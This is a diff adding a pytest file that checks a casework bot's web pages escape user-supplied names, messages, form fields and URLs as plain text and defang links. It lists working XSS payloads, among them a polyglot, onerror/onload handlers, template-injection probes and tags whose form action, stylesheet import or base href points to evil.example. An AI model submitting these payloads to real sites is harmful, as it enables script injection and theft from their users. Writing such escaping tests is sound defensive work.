@@ -1,0 +1,210 @@
+"""Whatever somebody writes is text on every page: no element and no attribute comes of it."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+from typing import TYPE_CHECKING, Any
+from urllib.parse import quote
+
+import pytest
+
+from bot.cases.life import Role
+from bot.desks.web.drawing import theirs
+from tests.cases.pictures import telling
+
+if TYPE_CHECKING:
+    from tests.desks.web.window import Office, Worker
+
+POLYGLOT = (
+    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
+    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"
+)
+MARKUP = (
+    "<script>alert(1)</script>",
+    "</p></article><img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "'><iframe srcdoc='<script>alert(1)</script>'>",
+    POLYGLOT,
+    "<form id=csrf action=//evil.example><input name=body><a id=root name=dataset>",
+    "<style>@import'//evil.example'</style><link rel=stylesheet href=//evil.example>",
+    "<base href=//evil.example><meta http-equiv=refresh content=0>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "</textarea></select></title></noscript><details open ontoggle=alert(1)>",
+)
+"""Each of these is an element when it is not escaped: see the control."""
+PLAIN = (
+    "<!--><img src=x:x onerror=alert(1)>-->",
+    "<x\x00y onclick=alert(1)>",
+    "{{7*7}} {% include 'case.html' %} ${7*7} #{7*7} <%= 7*7 %>",
+    '" autofocus onfocus=alert(1) x="',
+    "' style=position:fixed x='",
+    "javascript:alert(1) data:text/html,<b> vbscript:x",
+    "&lt;b&gt;&#60;b&#62;&amp;lt;",
+    "\u202e\u2066txt.exe\u2069\ufeff\U000e0041",
+    "%3Cscript%3E \\u003cscript\\u003e \\x3cscript\\x3e",
+    "https://evil.example/?a=1&b=<c> see www.evil.example",
+)
+BAD = (*MARKUP, *PLAIN)
+GOOD = tuple(f"words {number}" for number in range(len(BAD)))
+
+
+HERE = "aria-current"
+"""Stands where somebody is, and nowhere else."""
+
+
+class Shape(HTMLParser):
+    """What a page is made of: its elements and the names of their attributes, in order."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.parts: list[tuple[str, tuple[str, ...]]] = []
+        self.addresses: list[str] = []
+        self.feed(page)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.parts.append((tag, tuple(name for name, _value in attrs if name != HERE)))
+        self.addresses += [
+            value or ""
+            for name, value in attrs
+            if name in {"href", "src", "action", "data-picture"}
+        ]
+
+    handle_startendtag = handle_starttag
+
+
+def shape(page: str) -> list[tuple[str, tuple[str, ...]]]:
+    return Shape(page).parts
+
+
+def told(office: Office, mei: Worker, said: tuple[str, ...]) -> str:
+    """Let somebody tell these words in every way there is; return the number of the case."""
+    person = office.home.person("th")
+    person.account["first_name"], person.account["language_code"] = said[0], said[1]
+    person.account["username"] = said[2]
+    person.says("/start")
+    person.presses("English", "Nobody", "Talk to a person", "I am safe here")
+    person.says(said[0])
+    person.presses("Any time", "Send")
+    reference = office.newest()
+    office.sends(reference, telling("JPEG"), kind="photo", caption=said[1], name=said[2])
+    office.sends(reference, b"%PDF-", name=said[3], mime=said[4], caption=said[5])
+    mei.told(reference, "claim")
+    mei.told(reference, "take_over")
+    for words in said:
+        person.says(words)
+        person.does(person.edit(f"{words}!"))
+        mei.does(reference, "note", words=words)
+        mei.does(reference, "say", words=words)
+    mei.does(reference, "priority", code="0", words=said[1])
+    return reference
+
+
+PAGES = ("", "/panes/head", "/panes/conversation", "/panes/write", "/panes/file")
+
+
+def test_what_people_and_colleagues_write_is_text_on_every_page(office: Office) -> None:
+    mei = office.worker().comes()
+    good, bad = told(office, mei, GOOD), told(office, mei, BAD)
+    for page in PAGES:
+        pages = [mei.browser.get(f"/cases/{it}{page}").text for it in (good, bad)]
+        plain, nasty = (pages[0].replace(good, "NUMBER"), pages[1].replace(bad, "NUMBER"))
+        assert shape(nasty) == shape(plain), page
+        for address in Shape(nasty).addresses:
+            assert address.startswith(("/", "#main")), address
+    shown = mei.browser.get(f"/cases/{bad}").text
+    assert "7*7" in shown  # it is there, and it is text
+    assert "49" not in shown.partition("7*7")[0][-8:]
+    assert "evil.example" not in shown
+    assert "evil[.]example" in shown
+
+
+NAMES = [
+    ("/queue/all", Role.SUPERVISOR), ("/audit", Role.SUPERVISOR), ("/staff", Role.ADMINISTRATOR),
+    ("/account", Role.SUPERVISOR), ("/queue/mine", Role.CASEWORKER), ("glass", Role.SUPERVISOR),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("path", "role"), NAMES)
+def test_what_a_colleague_is_called_is_text_on_every_page(
+    office: Office, path: str, role: Role
+) -> None:
+    _person, reference = office.somebody()
+    found = []
+    for jun_is in ("Jun", MARKUP[1]):
+        looks = office.worker(jun_is, role).comes()
+        holder = office.worker(jun_is)
+        mine = office.somebody()[1]
+        holder.colleague.claims(office.case(mine))
+        page = looks.browser.get(f"/cases/{mine}" if path == "glass" else path)
+        assert page.status_code == 200
+        found.append(set(shape(page.text)))
+    assert found[1] == found[0]
+    assert reference
+
+
+ANSWERED: list[tuple[str, dict[str, str]]] = [
+    ("/signin", {"who": "WORDS", "password": "x", "code": "1"}),
+    ("/prove", {"code": "WORDS", "back": "WORDS"}),
+    ("/language", {"language": "WORDS", "back": "WORDS"}),
+    ("/account/end", {"session": "WORDS"}),
+]
+
+
+@pytest.mark.parametrize(("path", "fields"), ANSWERED)
+def test_what_a_form_says_back_is_text(office: Office, path: str, fields: dict[str, str]) -> None:
+    mei = office.worker()
+    if path != "/signin":
+        mei.comes()
+
+    def shaped(words: str) -> Any:
+        filled = {name: value.replace("WORDS", words) for name, value in fields.items()}
+        return shape(mei.browser.post(path, filled, is_signed=path != "/signin").text)
+
+    plain = shaped("words")
+    for words in BAD:
+        office.home.passes(400)
+        if path != "/signin":
+            mei.comes()
+        assert shaped(words) == plain, words
+
+
+PLACES = ("/nowhere/", "/cases/", "/queue/", "/welcome/")
+
+
+def test_the_address_itself_is_text(office: Office) -> None:
+    mei = office.worker().comes()
+    plain = shape(mei.browser.get("/nowhere/x").text)
+    for words in BAD:
+        for place in PLACES:
+            said = mei.browser.get(
+                f"{place}{quote(words)}?queue={quote(words)}&back={quote(words)}"
+            )
+            assert said.status_code == 404
+            assert place == "/welcome/" or shape(said.text) == plain, words
+
+
+def test_no_address_can_be_followed() -> None:
+    for words in (
+        "see https://evil.example/x",
+        "\u770bwww.evil.example/x",
+        "EVIL.Example",
+        "ftp://a.b/c",
+    ):
+        shown = theirs(words)
+        assert "[.]" in shown
+        assert "http:" not in shown
+        assert "https:" not in shown
+    assert theirs("At 3.15 p.m. he came. I ran.") == "At 3.15 p.m. he came. I ran."
+
+
+@pytest.mark.parametrize("words", MARKUP)
+def test_each_of_these_is_an_element_when_nobody_escapes_it(words: str) -> None:
+    """The control: the parser sees in each of them what a browser would."""
+    assert shape(f'<p title="a">{words}</p>') != shape('<p title="a">words</p>')
+
+
+@pytest.mark.parametrize("words", PLAIN[3:5])
+def test_each_of_these_is_an_attribute_when_nobody_escapes_it(words: str) -> None:
+    quote = words[0]
+    assert shape(f"<p title={quote}{words}{quote}>") != shape(f"<p title={quote}words{quote}>")
